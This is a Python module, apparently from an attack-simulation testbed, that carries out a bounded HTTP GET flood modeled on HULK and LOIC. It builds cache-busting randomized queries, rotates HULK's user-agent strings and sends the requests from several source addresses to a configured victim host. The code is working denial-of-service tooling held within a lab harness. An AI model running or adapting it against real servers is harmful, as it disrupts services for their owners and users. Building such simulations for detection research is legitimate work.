"""A flood of GETs of our own, from one address or from many: what HULK and LOIC do, bounded in number and in time.

Each request asks for another query, so that no cache answers it, on a connection of its own or with others on one.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import random
from collections.abc import Iterator, Sequence
from pathlib import Path

from ..site import Attack, Site
from . import instance

AGENTS = (
    "Mozilla/5.0 (X11; U; Linux x86_64; en-US; rv:1.9.1.3) Gecko/20090913 Firefox/3.5.3",
    "Mozilla/5.0 (Windows; U; Windows NT 6.1; en; rv:1.9.1.3) Gecko/20090824 Firefox/3.5.3",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 1.1.4322)",
    "Opera/9.80 (Windows NT 5.2; U; ru) Presto/2.5.22 Version/10.51",
)
"""As in HULK's own list."""

LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
ANSWER_S = 5.0
"""How long one request waits for its answer: a server that is overrun answers late or never."""


def flood(attack: Attack, site: Site, run: Path, used: Sequence[str], count: int) -> None:
    """Send so many GETs to the victim, `together` at a time, `rate` a second at most, for `seconds` at most."""
    victim, port = instance.target(attack, site), instance.whole(attack, "port")
    path, together = instance.text(attack, "path"), instance.whole(attack, "together")
    instance.note(
        attack, run, f"GET http://{victim}:{port}{path} # {count} times from {len(used)} addresses, {together} at a time"
    )
    answered = asyncio.run(_flood(attack, victim, (port, path), used, count))
    (instance.folder(attack, run) / "output.txt").write_text(
        f"{answered} of {count} requests were answered\n", encoding="utf-8"
    )


async def _flood(attack: Attack, victim: str, where: tuple[int, str], used: Sequence[str], count: int) -> int:
    port, path = where
    todo = enumerate(zip(itertools.cycle(used), _requests(attack.seed, victim, path, count), strict=False))
    answered, rate = 0, instance.whole(attack, "rate")
    loop = asyncio.get_running_loop()
    start_s = loop.time()

    async def worker() -> None:
        nonlocal answered
        for number, (address, request) in todo:
            await asyncio.sleep(max(start_s + number / rate - loop.time(), 0.0))
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(ANSWER_S):
                    answered += await _ask(address, victim, port, request)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(instance.number(attack, "seconds")):
            await asyncio.gather(*(worker() for _ in range(instance.whole(attack, "together"))))
    return answered


async def _ask(address: str, victim: str, port: int, request: bytes) -> bool:
    """Send one request from an address; whether anything came back."""
    reader, writer = await asyncio.open_connection(victim, port, local_addr=(address, 0))
    try:
        writer.write(request)
        await writer.drain()
        heard = False
        while await reader.read(65536):
            heard = True
        return heard
    finally:
        writer.close()


def _requests(seed: int, victim: str, path: str, count: int) -> Iterator[bytes]:
    chance = random.Random(seed)

    def word() -> str:
        return "".join(chance.choices(LETTERS, k=chance.randint(3, 10)))

    for _ in range(count):
        headers = (
            f"GET {path}?{word()}={word()} HTTP/1.1",
            f"Host: {victim}",
            f"User-Agent: {chance.choice(AGENTS)}",
            "Cache-Control: no-cache",
            f"Referer: http://{victim}/?q={word()}",
            f"Keep-Alive: {chance.randint(110, 120)}",
            "Connection: close",
        )
        yield ("\r\n".join(headers) + "\r\n\r\n").encode("ascii")
